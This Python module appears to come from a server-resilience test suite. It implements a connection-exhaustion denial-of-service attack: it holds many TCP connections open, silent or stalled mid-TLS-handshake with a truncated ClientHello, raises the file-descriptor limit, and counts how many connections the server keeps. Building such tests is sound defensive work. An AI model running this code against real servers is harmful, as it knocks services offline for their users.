"""Attackers who hold connections over TCP that never become a link: silent ones, and ones that begin TLS and stop."""

from __future__ import annotations

import contextlib
import resource
import socket
import time
from collections import Counter
from collections.abc import Iterator

from attacks.handmade import ELSEWHERE

_BYTES_OF_CONNECTION = 180
"""SYN, ACK and the end, with their headers."""
_BEGUN_HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(64)
"""A ClientHello of 512 bytes of which the rest never comes."""


class Callers:
    """Connections from one address of this machine. Every second one says something."""

    def __init__(self, address: tuple[str, int], source: str = "127.0.0.1") -> None:
        self.counts: Counter[str] = Counter()
        self._address = address
        self._source = source
        self._sockets: list[socket.socket] = []

    def call(self) -> None:
        sock = socket.socket()
        sock.settimeout(5.0)
        # Without a goodbye, so that no port of ours stays taken.
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
        sock.bind((self._source, 0))
        self.counts["called"] += 1
        self.counts["sent_bytes"] += _BYTES_OF_CONNECTION
        try:
            sock.connect(self._address)
            if self.counts["called"] % 2:
                sock.sendall(_BEGUN_HELLO)
                self.counts["sent_bytes"] += len(_BEGUN_HELLO)
        except OSError:
            sock.close()
            self.counts["refused"] += 1
        else:
            sock.setblocking(False)
            self._sockets.append(sock)

    @property
    def held(self) -> int:
        """How many the server has not ended."""
        self._sockets = [sock for sock in self._sockets if _is_open(sock)]
        return len(self._sockets)

    def leave(self) -> None:
        for sock in self._sockets:
            sock.close()


def _is_open(sock: socket.socket) -> bool:
    try:
        said = sock.recv(65_536)
    except BlockingIOError:
        return True
    except OSError:
        said = b""
    if not said:
        sock.close()
    return bool(said)


@contextlib.contextmanager
def many_files() -> Iterator[None]:
    """Each connection is a file of the attacker's too."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))


def attack(
    address: tuple[str, int], stop_after_s: float, bits_per_s: float, *, source: str = ELSEWHERE
) -> Counter[str]:
    """`called` is how often; `held_at_end` how many connections the server was holding then."""
    callers = Callers(address, source)
    began_at = time.monotonic()
    with many_files():
        while (elapsed_s := time.monotonic() - began_at) < stop_after_s:
            if callers.counts["sent_bytes"] * 8 > elapsed_s * bits_per_s:
                time.sleep(0.005)
            callers.call()
            if callers.counts["called"] % 1024 == 0:
                callers.counts["most_held"] = max(callers.counts["most_held"], callers.held)
        callers.counts["held_at_end"] = callers.held
        callers.leave()
    return callers.counts
